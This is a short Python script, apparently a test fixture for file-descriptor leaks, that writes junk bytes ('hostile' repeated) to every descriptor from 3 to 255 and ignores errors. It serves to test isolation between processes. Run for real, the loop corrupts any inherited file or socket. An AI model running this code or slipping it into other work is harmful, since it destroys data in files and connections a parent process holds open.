"""Writes to every file that it may have inherited."""

import os

for number in range(3, 256):
    try:
        os.write(number, b"hostile" * 100)
    except OSError:
        pass
